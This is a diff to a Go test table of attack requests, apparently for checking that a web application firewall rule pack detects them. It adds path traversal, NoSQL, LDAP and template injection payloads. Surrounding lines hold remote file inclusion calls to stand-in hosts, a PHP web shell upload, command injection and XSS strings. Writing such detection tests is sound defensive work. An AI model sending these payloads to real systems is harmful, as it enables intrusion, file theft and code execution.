@@ -55,6 +55,7 @@ var packAttacks = []struct {
 	{930126, get("/download?file=backup.sql.gz")},
 	{930130, get("/.git/config")},
 	{930131, get("/.claude/settings.json")},
+	{930160, get("/download?file=..%2f..%2f..%2fetc%2fpasswd")}, // detect: traversal
 	{931100, get("/index.php?lang=http://203.0.113.7/shell.txt")},
 	{931110, get("/index.php?option=com_x&mosConfig_absolute_path=http://evil.example/shell.txt")},
 	{931120, get("/index.php?page=http://evil.example/shell.txt?")},
@@ -73,6 +74,7 @@ var packAttacks = []struct {
 	{932150, get("/x?c=w'h'o'am'i")},
 	{932155, get("/", "Cookie: tz=uname -a")},
 	{932160, get("/diag?tool=/usr/bin/id")},
+	{932190, get("/download?file=..%2f..%2f..%2fetc%2fpasswd")}, // detect: cmdi (passwd in command position); other rules block it too
 	{933100, get("/index.php?page=php://filter/convert.base64-encode/resource=index.php")},
 	{933101, post("/upload", "content=<?php system($_GET['c']); ?>")},
 	{933110, request("POST", "/upload", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/gif\r\n\r\nGIF89a\r\n--x--\r\n", "Content-Type: multipart/form-data; boundary=x")},
@@ -91,7 +93,10 @@ var packAttacks = []struct {
 	{934121, get("/fetch?url=http://localhost:8080/admin")},
 	{934131, get("/api/settings?constructor%5Bprototype%5D%5BisAdmin%5D=true")},
 	{934150, get("/greet?name=__import__(%27os%27).popen(%27id%27).read()")},
+	{934170, get("/login?user%5B%24ne%5D=1")},                // detect: nosqli
+	{934175, get("/people?filter=*)(uid%3D*))(%7C(uid%3D*")}, // detect: ldapi
 	{934180, get("/greet?name={{7*7}}")},
+	{934185, get("/greet?name=%7B%7B7*7%7D%7D")}, // detect: ssti
 	{941100, get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")},
 	{941101, post("/comment", "comment=<svg onload=alert(1)>")},
 	{941102, get("/", `Referer: https://shop.example/"><svg onload=alert(1)>`)},
